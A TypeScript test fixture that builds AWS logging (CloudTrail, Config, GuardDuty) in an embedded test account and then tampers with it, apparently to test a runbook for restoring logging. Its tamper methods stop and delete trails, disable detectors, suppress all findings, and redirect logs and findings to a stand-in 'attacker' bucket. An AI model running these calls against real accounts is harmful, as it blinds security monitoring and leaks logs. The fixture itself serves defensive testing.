import {
  CloudTrailClient,
  CreateTrailCommand,
  DeleteTrailCommand,
  DescribeTrailsCommand,
  PutEventSelectorsCommand,
  StartLoggingCommand,
  StopLoggingCommand,
  UpdateTrailCommand,
} from '@aws-sdk/client-cloudtrail';
import {
  ConfigServiceClient,
  DeleteConfigurationRecorderCommand,
  DeleteDeliveryChannelCommand,
  PutConfigurationRecorderCommand,
  PutDeliveryChannelCommand,
  StartConfigurationRecorderCommand,
  StopConfigurationRecorderCommand,
} from '@aws-sdk/client-config-service';
import {
  CreateDetectorCommand,
  CreateFilterCommand,
  CreateIPSetCommand,
  CreatePublishingDestinationCommand,
  DeleteDetectorCommand,
  GuardDutyClient,
  ListDetectorsCommand,
  ListPublishingDestinationsCommand,
  UpdateDetectorCommand,
  UpdatePublishingDestinationCommand,
} from '@aws-sdk/client-guardduty';
import { CreateBucketCommand, S3Client } from '@aws-sdk/client-s3';
import { randomBytes } from 'node:crypto';
import type { TamperingCase } from '../../runbooks/restore-logging/cases';
import type { TestAws } from '../embedded/aws';

const CRITERIA = { Criterion: { type: { Equals: ['Recon:EC2/PortProbeUnprotectedPort'] } } };

/** Begins the names of the trails that are made here. */
const TRAIL = 'main-';

/** The logging of the embedded account: made well, and then tampered with. */
export class LoggingWorld {
  readonly #trails: CloudTrailClient;
  readonly #config: ConfigServiceClient;
  readonly #guardDuty: GuardDutyClient;
  readonly #s3: S3Client;
  readonly #suffix = randomBytes(4).toString('hex');
  readonly trail = `${TRAIL}${this.#suffix}`;
  readonly bucket = `logs-${this.#suffix}`;

  constructor(aws: Pick<TestAws, 'client'>) {
    this.#trails = new CloudTrailClient(aws.client);
    this.#config = new ConfigServiceClient(aws.client);
    this.#guardDuty = new GuardDutyClient(aws.client);
    this.#s3 = new S3Client({ ...aws.client, forcePathStyle: true });
  }

  /** A trail with data events, a recorder with its channel, a detector that publishes and suppresses one finding. */
  async make(): Promise<void> {
    await this.#s3.send(new CreateBucketCommand({ Bucket: this.bucket }));
    await this.#s3.send(new CreateBucketCommand({ Bucket: `attacker-${this.#suffix}` }));
    await this.#trails.send(
      new CreateTrailCommand({
        Name: this.trail,
        S3BucketName: this.bucket,
        EnableLogFileValidation: true,
        IsMultiRegionTrail: true,
      }),
    );
    await this.#trails.send(
      new PutEventSelectorsCommand({
        TrailName: this.trail,
        EventSelectors: [
          {
            ReadWriteType: 'All',
            IncludeManagementEvents: true,
            DataResources: [{ Type: 'AWS::S3::Object', Values: ['arn:aws:s3'] }],
          },
        ],
      }),
    );
    await this.#trails.send(new StartLoggingCommand({ Name: this.trail }));
    await this.#makeRecorder();
    await this.#makeDetector();
  }

  async #makeRecorder(): Promise<void> {
    await this.#config.send(
      new PutConfigurationRecorderCommand({
        ConfigurationRecorder: {
          name: 'default',
          roleARN: 'arn:aws:iam::000000000000:role/config',
          recordingGroup: { allSupported: true, includeGlobalResourceTypes: true },
        },
      }),
    );
    await this.#config.send(
      new PutDeliveryChannelCommand({ DeliveryChannel: { name: 'default', s3BucketName: this.bucket } }),
    );
    await this.#config.send(new StartConfigurationRecorderCommand({ ConfigurationRecorderName: 'default' }));
  }

  async #makeDetector(): Promise<void> {
    const { DetectorId } = await this.#guardDuty.send(
      new CreateDetectorCommand({
        Enable: true,
        FindingPublishingFrequency: 'FIFTEEN_MINUTES',
        Features: [
          { Name: 'S3_DATA_EVENTS', Status: 'ENABLED' },
          { Name: 'RDS_LOGIN_EVENTS', Status: 'DISABLED' },
        ],
      }),
    );
    await this.#guardDuty.send(
      new CreateFilterCommand({ DetectorId, Name: 'known-scanner', Action: 'ARCHIVE', FindingCriteria: CRITERIA }),
    );
    await this.#guardDuty.send(
      new CreatePublishingDestinationCommand({
        DetectorId,
        DestinationType: 'S3',
        DestinationProperties: {
          DestinationArn: `arn:aws:s3:::${this.bucket}`,
          KmsKeyArn: 'arn:aws:kms:us-east-1:000000000000:key/k',
        },
      }),
    );
  }

  /** So that the next test finds an account without logging: what this world and those before it made goes. */
  async clear(): Promise<void> {
    const gone = async (work: Promise<unknown>) => work.catch(() => undefined);
    const { trailList } = await this.#trails.send(new DescribeTrailsCommand({}));
    for (const { Name } of trailList ?? []) await gone(this.#trails.send(new DeleteTrailCommand({ Name })));
    await gone(this.#config.send(new StopConfigurationRecorderCommand({ ConfigurationRecorderName: 'default' })));
    await gone(this.#config.send(new DeleteDeliveryChannelCommand({ DeliveryChannelName: 'default' })));
    await gone(this.#config.send(new DeleteConfigurationRecorderCommand({ ConfigurationRecorderName: 'default' })));
    const { DetectorIds } = await this.#guardDuty.send(new ListDetectorsCommand({}));
    for (const DetectorId of DetectorIds ?? []) await this.#guardDuty.send(new DeleteDetectorCommand({ DetectorId }));
  }

  async tamper(call: TamperingCase['calls'][number]): Promise<unknown> {
    const Name = this.trail;
    // eslint-disable-next-line @typescript-eslint/switch-exhaustiveness-check -- the others are GuardDuty's
    switch (call) {
      case 'stop-logging':
        return this.#trails.send(new StopLoggingCommand({ Name }));
      case 'delete-trail':
        return this.#trails.send(new DeleteTrailCommand({ Name }));
      case 'other-bucket':
        return this.#trails.send(
          new UpdateTrailCommand({ Name, S3BucketName: `attacker-${this.#suffix}`, EnableLogFileValidation: false }),
        );
      case 'narrow-selectors':
        return this.#trails.send(
          new PutEventSelectorsCommand({
            TrailName: Name,
            EventSelectors: [{ ReadWriteType: 'ReadOnly', IncludeManagementEvents: true }],
          }),
        );
      case 'stop-recorder':
        return this.#config.send(new StopConfigurationRecorderCommand({ ConfigurationRecorderName: 'default' }));
      case 'delete-recorder':
        await this.#config.send(new StopConfigurationRecorderCommand({ ConfigurationRecorderName: 'default' }));
        await this.#config.send(new DeleteDeliveryChannelCommand({ DeliveryChannelName: 'default' }));
        return this.#config.send(new DeleteConfigurationRecorderCommand({ ConfigurationRecorderName: 'default' }));
      default:
        return this.#tamperWithGuardDuty(call);
    }
  }

  async #tamperWithGuardDuty(call: TamperingCase['calls'][number]): Promise<unknown> {
    const DetectorId = (await this.#guardDuty.send(new ListDetectorsCommand({}))).DetectorIds?.[0];
    // eslint-disable-next-line @typescript-eslint/switch-exhaustiveness-check -- the others are of the other services
    switch (call) {
      case 'disable-detector':
        return this.#guardDuty.send(
          new UpdateDetectorCommand({
            DetectorId,
            Enable: false,
            Features: [{ Name: 'S3_DATA_EVENTS', Status: 'DISABLED' }],
          }),
        );
      case 'delete-detector':
        return this.#guardDuty.send(new DeleteDetectorCommand({ DetectorId }));
      case 'suppress-findings':
        return this.#guardDuty.send(
          new CreateFilterCommand({
            DetectorId,
            Name: 'noise',
            Action: 'ARCHIVE',
            FindingCriteria: { Criterion: { severity: { GreaterThanOrEqual: 1 } } },
          }),
        );
      case 'trust-addresses':
        return this.#guardDuty.send(
          new CreateIPSetCommand({
            DetectorId,
            Name: 'office',
            Format: 'TXT',
            Location: 's3://attacker/x',
            Activate: true,
          }),
        );
      case 'publish-elsewhere': {
        const { Destinations } = await this.#guardDuty.send(new ListPublishingDestinationsCommand({ DetectorId }));
        return this.#guardDuty.send(
          new UpdatePublishingDestinationCommand({
            DetectorId,
            DestinationId: Destinations?.[0]?.DestinationId,
            DestinationProperties: { DestinationArn: 'arn:aws:s3:::attacker' },
          }),
        );
      }
      default:
        throw new Error(`nobody knows how to '${call}'`);
    }
  }
}
